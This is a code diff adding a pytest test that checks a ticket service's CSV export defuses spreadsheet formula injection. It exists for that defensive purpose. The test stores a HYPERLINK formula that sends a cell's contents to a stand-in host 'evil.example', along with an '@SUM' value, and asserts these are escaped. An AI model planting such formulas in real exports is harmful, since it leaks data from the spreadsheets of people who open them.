@@ -134,3 +134,25 @@ def test_a_selection_that_makes_no_sense_is_refused(session, settings):
         _report(session, settings, "md", since=date(2025, 5, 2), until=date(2025, 5, 1))
     with pytest.raises(InvalidInput, match="Unknown state"):
         _report(session, settings, "md", state="true-ish")
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_plain_text(session, settings):
+    import csv
+    import io
+
+    from factcheck.tickets import service as tickets
+
+    result = ingest(session, settings)
+    editor = make_user(session, "ed", "editor")
+    ticket = result.tickets[0]
+    evil = '=HYPERLINK("http://evil.example/?x="&B2,"Minutes")'
+    tickets.add_note(session, actor=editor, ticket_id=ticket.id, text=evil, url=None)
+    transition(session, actor=editor, ticket_id=ticket.id, to="disputed", rationale="@SUM(1+1) the minutes say 6-3",
+               expected_version=1)
+    session.commit()
+    rows = list(csv.DictReader(io.StringIO(_report(session, settings, "csv"))))
+    row = next(r for r in rows if r["ticket_id"] == str(ticket.id))
+    assert row["notes"] == "'" + evil and row["verdict_rationale"].startswith("'@SUM(")
+    for cell in (c for r in rows for c in r.values()):
+        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert row["score"][0].isdigit() and row["ticket_id"] == str(ticket.id)  # numbers stay numbers
